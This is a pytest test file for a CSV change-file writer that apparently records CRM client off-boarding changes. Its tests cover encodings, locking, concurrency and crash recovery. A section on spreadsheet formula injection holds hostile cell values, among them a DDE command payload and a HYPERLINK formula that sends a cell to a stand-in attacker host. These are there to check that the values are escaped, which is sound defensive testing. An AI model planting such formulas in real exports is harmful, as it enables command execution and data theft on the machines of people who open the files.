from __future__ import annotations

import csv
import errno
import io
import json
import os
import stat
import subprocess
import sys
from datetime import timedelta
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
from disengage import (
    Accepted,
    ConfigurationError,
    Done,
    OutcomeUnknownError,
    RejectedError,
    RetryableError,
    UnexpectedResponseError,
    Verb,
)
from disengage_generic_csv import changes
from disengage_generic_csv.wire import guarded, plain
from filelock import FileLock

if TYPE_CHECKING:
    from conftest import Crm

HEAD = "Klantnummer;Klantstatus;Einde relatie;Facturatie aan\r\n"
SEVERED = "10042;Geen klant meer;2026-12-31;10000\r\n"
SETTLED = "10042;Klant;;\r\n"
BOTH = "10042;Geen klant meer;2026-12-31;\r\n"
WRITTEN = Accepted(
    look_again_in=timedelta(minutes=15), waiting_for="the next export", receipt="written to 'changes.csv'"
)
ALREADY = WRITTEN.model_copy(update={"receipt": "already in 'changes.csv'"})


def test_a_change_is_one_row_below_the_exports_own_headings(crm: Crm) -> None:
    assert crm.do(Verb.SEVER_LINK) == WRITTEN
    assert crm.changes == HEAD + SEVERED


def test_the_columns_stand_in_the_order_of_the_export(crm: Crm) -> None:
    crm.export(
        "10000;;Klant;10042;Nordlys Kafé AS", headings="Facturatie aan;Einde relatie;Klantstatus;Klantnummer;Naam"
    )
    crm.do(Verb.SETTLE_BILLING)
    assert crm.changes == "Klantnummer;Facturatie aan;Einde relatie;Klantstatus\r\n10042;;;Klant\r\n"


def test_severing_does_not_undo_a_settlement_that_waits_for_its_import(crm: Crm) -> None:
    crm.do(Verb.SETTLE_BILLING)
    crm.do(Verb.SEVER_LINK)
    assert crm.changes == HEAD + SETTLED + BOTH


def test_settling_does_not_undo_a_severing_that_waits_for_its_import(crm: Crm) -> None:
    crm.do(Verb.SEVER_LINK)
    crm.do(Verb.SETTLE_BILLING)
    assert crm.changes == HEAD + SEVERED + BOTH


def test_a_kept_invoice_route_is_repeated_as_the_export_shows_it(crm: Crm) -> None:
    crm.do(Verb.SETTLE_BILLING)
    crm.do(Verb.SEVER_LINK, crm.request(options={"keep_billing_to": True}))
    assert crm.changes == HEAD + SETTLED + SEVERED


@pytest.mark.parametrize("verbs", [(Verb.SEVER_LINK,), (Verb.SETTLE_BILLING, Verb.SEVER_LINK)])
def test_the_same_change_twice_is_one_row(crm: Crm, verbs: tuple[Verb, ...]) -> None:
    for verb in verbs:
        crm.do(verb)
    before = crm.changes
    for verb in verbs:
        assert crm.do(verb) == ALREADY
    assert crm.changes == before


def test_the_same_change_on_the_next_day_is_one_row_though_it_is_dated_today(crm: Crm) -> None:
    verbs = {"sever_link": {"status": "ended", "end_date": "{today}"}}
    crm.do(Verb.SEVER_LINK, verbs=verbs)
    crm.now += timedelta(days=1)
    assert crm.do(Verb.SEVER_LINK, verbs=verbs) == ALREADY
    assert crm.changes == "Klantnummer;Klantstatus;Einde relatie\r\n10042;Geen klant meer;2026-11-22\r\n"


def test_a_client_that_came_back_and_leaves_again_is_a_new_change(crm: Crm) -> None:
    crm.do(Verb.SEVER_LINK)
    (crm.folder / "changes.csv").write_bytes(
        crm.changes.replace("2026-12-31", "2019-12-31").encode() + b"10043;Klant;;\r\n"
    )
    assert crm.do(Verb.SEVER_LINK) == WRITTEN
    assert crm.changes.endswith("10043;Klant;;\r\n" + SEVERED)


def test_another_clients_rows_are_neither_read_nor_touched(crm: Crm) -> None:
    theirs = HEAD + "10043;Geen klant meer;2026-12-31;\r\n"
    (crm.folder / "changes.csv").write_bytes(theirs.encode())
    crm.do(Verb.SEVER_LINK)
    assert crm.changes == theirs + SEVERED


def test_a_file_whose_last_row_was_left_open_is_closed_first(crm: Crm) -> None:
    (crm.folder / "changes.csv").write_bytes((HEAD + "10043;Klant;;").encode())
    crm.do(Verb.SEVER_LINK)
    assert crm.changes == HEAD + "10043;Klant;;\r\n" + SEVERED


def test_a_file_that_was_emptied_is_begun_anew(crm: Crm) -> None:
    (crm.folder / "changes.csv").touch()
    crm.do(Verb.SEVER_LINK)
    assert crm.changes == HEAD + SEVERED


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-be", "cp1252"])
@pytest.mark.parametrize("newline", ["\r\n", "\n"])
def test_the_change_file_is_written_as_the_export_is(crm: Crm, encoding: str, newline: str) -> None:
    headings = "Klantnummer;Naam;Klantstatus;Einde relatie;Café"
    columns = {**crm.configuration["columns"], "billing_to": "Café"}
    crm.export("10042;Nordlys Kafé AS;Klant;;æøå", headings=headings, encoding=encoding, newline=newline)
    for verb in (Verb.SEVER_LINK, Verb.SETTLE_BILLING):
        crm.do(verb, encoding=encoding, columns=columns)
    expected = newline.join(
        (
            "Klantnummer;Klantstatus;Einde relatie;Café",
            "10042;Geen klant meer;2026-12-31;æøå",
            "10042;Geen klant meer;2026-12-31;",
            "",
        )
    )
    assert (crm.folder / "changes.csv").read_bytes() == expected.encode(encoding)


def test_dates_are_written_in_the_configured_form(crm: Crm) -> None:
    crm.do(Verb.SEVER_LINK, date_format="%d-%m-%Y")
    assert crm.changes == HEAD + "10042;Geen klant meer;31-12-2026;10000\r\n"


def test_every_placeholder_is_filled(crm: Crm) -> None:
    crm.export("10042;Nordlys Kafé AS;x", headings="Klantnummer;Naam;Memo")
    memo = (
        "{ends_on} {notice_on}|{period_from} {period_to} {today} {reason} {client} {reference} {successor}|{firm} {{}}"
    )
    crm.do(
        Verb.ARCHIVE,
        columns={"reference": "Klantnummer", "name": "Naam", "memo": "Memo"},
        verbs={"archive": {"memo": memo}},
    )
    filled = (
        "2026-12-31 |2024-01-01 2026-12-31 2026-11-22 moved-to-other-firm Nordlys Kafé AS 10042 |Fjord Regnskap AS {}"
    )
    assert crm.changes == f"Klantnummer;Memo\r\n10042;{filled}\r\n"


def test_a_change_that_no_export_can_show_is_done_with_a_receipt_only(crm: Crm) -> None:
    columns = {**crm.configuration["columns"], "name": "Naam"}
    outcome = crm.do(Verb.ARCHIVE, columns=columns, verbs={"archive": {"name": "x {client}"}})
    assert outcome == Done(receipt="written to 'changes.csv'")


# cells that spreadsheets obey


@pytest.mark.parametrize("text", ["=1+1", "+cmd|'/c'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "-", "+47 12 34"])
def test_a_formula_is_never_written_and_reads_back_as_it_was(text: str) -> None:
    assert guarded(text) == f"'{text}"
    assert plain(guarded(text)) == text.strip()


@pytest.mark.parametrize("text", ["", "Klant", "-12.50", "+4712345678", "-1.234,56", "2026-12-31", "'t Hoekje", "a=b"])
def test_plain_numbers_dates_and_words_stay_as_they_are(text: str) -> None:
    assert (guarded(text), plain(text)) == (text, text)


def test_a_clients_name_cannot_smuggle_a_formula_into_the_change_file(crm: Crm) -> None:
    hostile = '=HYPERLINK("https://evil.example/"&A1;"x")'
    crm.do(Verb.SETTLE_BILLING, crm.request(name=hostile), verbs={"settle_billing": {"billing_to": "{client}"}})
    rows = list(csv.reader(io.StringIO(crm.changes), delimiter=";"))
    assert rows == [["Klantnummer", "Facturatie aan"], ["10042", f"'{hostile}"]]


def test_a_formula_of_the_export_is_repeated_guarded_and_recognised_afterwards(crm: Crm) -> None:
    crm.export('10042;Nordlys Kafé AS;Klant;;"=1+1"')
    keep = crm.request(options={"keep_billing_to": True})
    crm.do(Verb.SEVER_LINK, keep)
    assert crm.changes == HEAD + "10042;Geen klant meer;2026-12-31;'=1+1\r\n"
    crm.export("10042;Nordlys Kafé AS;Klant;;'=1+1")
    assert crm.do(Verb.SEVER_LINK, keep) == ALREADY
    assert crm.observe().billing_to == "=1+1"


# what cannot be written


def refused(crm: Crm, kind: type[Exception], **settings: Any) -> str:
    before = crm.changes
    with pytest.raises(kind) as caught:
        crm.do(Verb.SEVER_LINK, **settings)
    assert crm.changes == before
    assert not list(crm.folder.glob("*.new"))
    return str(caught.value)


def test_a_change_file_with_other_headings_is_left_alone(crm: Crm) -> None:
    (crm.folder / "changes.csv").write_text("Klantnummer;Klantstatus\r\n", newline="")
    assert "other headings" in refused(crm, ConfigurationError)


def test_a_change_file_that_is_no_table_is_left_alone(crm: Crm) -> None:
    (crm.folder / "changes.csv").write_text(HEAD + "10043;Klant\r\n", newline="")
    with pytest.raises(UnexpectedResponseError, match=r"change file .* is not a table .* line 2"):
        crm.do(Verb.SEVER_LINK)


def test_a_client_that_left_the_export_is_refused(crm: Crm) -> None:
    crm.export("10043;Sørlys AS;Klant;;")
    assert "does not have this client any more" in refused(crm, RejectedError)


def test_a_missing_folder_is_named_and_not_created(crm: Crm) -> None:
    assert "folder of the change file 'changes.csv' does not exist" in refused(
        crm, ConfigurationError, changes="outbox/changes.csv"
    )
    assert not (crm.folder / "outbox").exists()


def test_the_export_is_never_written_even_by_another_name(crm: Crm) -> None:
    before = (crm.folder / "clients.csv").read_bytes()
    assert "is the export itself" in refused(crm, ConfigurationError, changes="./clients.csv")
    (crm.folder / "link.csv").symlink_to("clients.csv")
    assert "is the export itself" in refused(crm, ConfigurationError, changes="link.csv")
    assert (crm.folder / "clients.csv").read_bytes() == before


def test_a_character_that_the_encoding_does_not_have_is_refused(crm: Crm) -> None:
    crm.export("10042;Nordlys Kafé AS;Klant;;", encoding="cp1252")
    request = crm.request(name="Zażółć AS")
    verbs = {"archive": {"billing_to": "{client}"}}
    with pytest.raises(RejectedError, match="a character that cp1252 does not have"):
        crm.do(Verb.ARCHIVE, request, encoding="cp1252", verbs=verbs)
    assert crm.changes == ""


def test_a_full_disk_changes_nothing_and_is_tried_again(crm: Crm, monkeypatch: pytest.MonkeyPatch) -> None:
    crm.do(Verb.SETTLE_BILLING)

    def full(number: int) -> None:
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    with monkeypatch.context() as patched:
        patched.setattr(changes.os, "fsync", full)
        assert "No space left on device" in refused(crm, RetryableError)
    assert crm.do(Verb.SEVER_LINK) == WRITTEN


def test_a_disk_that_fails_after_the_row_is_there_leaves_the_outcome_open(
    crm: Crm, monkeypatch: pytest.MonkeyPatch
) -> None:
    def failing(path: Path, *_: object) -> int:
        raise OSError(errno.EIO, os.strerror(errno.EIO))

    connection = crm.connection()
    with monkeypatch.context() as patched:
        patched.setattr(changes, "_open_folder", failing)
        with pytest.raises(OutcomeUnknownError):
            connection.sever_link(crm.link(), crm.request())
    assert crm.do(Verb.SEVER_LINK) == ALREADY


def test_a_file_that_another_process_holds_is_tried_again(crm: Crm, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(changes, "PATIENCE", 0.05)
    with FileLock(crm.folder / ".changes.csv.lock"):
        assert "held by another process" in refused(crm, RetryableError)


def test_what_a_crash_left_behind_does_not_stand_in_the_way(crm: Crm) -> None:
    (crm.folder / ".changes.csv.new").write_text("half a ro")
    crm.do(Verb.SEVER_LINK)
    assert crm.changes == HEAD + SEVERED


def test_the_files_rights_stay_as_they_are(crm: Crm) -> None:
    crm.do(Verb.SETTLE_BILLING)
    (crm.folder / "changes.csv").chmod(0o640)
    crm.do(Verb.SEVER_LINK)
    assert stat.S_IMODE((crm.folder / "changes.csv").stat().st_mode) == 0o640


# many at once

_MANY = """
import json, sys
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from disengage_generic_csv.api import Export
from disengage_generic_csv.changes import ChangeFile
from disengage_generic_csv.settings import GenericCsvSettings

folder, first = Path(sys.argv[1]), int(sys.argv[2])
settings = GenericCsvSettings.model_validate(json.loads((folder / "settings.json").read_text()))
changes = ChangeFile(Export(settings, folder), folder)

def row(number):
    wanted = {"reference": str(number), "status": "Geen klant meer", "end_date": "2026-12-31", "billing_to": ""}
    return changes.append(str(number), lambda last: wanted)

print("ready", flush=True)
sys.stdin.readline()
with ThreadPoolExecutor(20) as threads:
    print(sum(threads.map(row, range(first, first + 40))))
"""


def test_many_threads_and_processes_write_every_row_once(crm: Crm) -> None:
    (crm.folder / "settings.json").write_text(json.dumps(crm.configuration))
    firsts = (20_000, 20_030)
    processes = [
        subprocess.Popen(
            [sys.executable, "-c", _MANY, str(crm.folder), str(first)],
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            text=True,
        )
        for first in firsts
    ]
    for process in processes:
        assert process.stdout is not None
        assert process.stdout.readline() == "ready\n"
    written = sum(int(process.communicate("go\n")[0]) for process in processes)
    rows = crm.changes.removeprefix(HEAD).splitlines()
    assert sorted(rows) == [f"{number};Geen klant meer;2026-12-31;" for number in range(20_000, 20_070)]
    assert written == 70


def test_whoever_reads_meanwhile_reads_the_old_file_to_its_end(crm: Crm) -> None:
    crm.do(Verb.SETTLE_BILLING)
    with (crm.folder / "changes.csv").open("rb") as reader:
        assert reader.read(10) == b"Klantnumme"
        crm.do(Verb.SEVER_LINK)
        assert b"Klantnumme" + reader.read() == (HEAD + SETTLED).encode()
    assert crm.changes == HEAD + SETTLED + BOTH
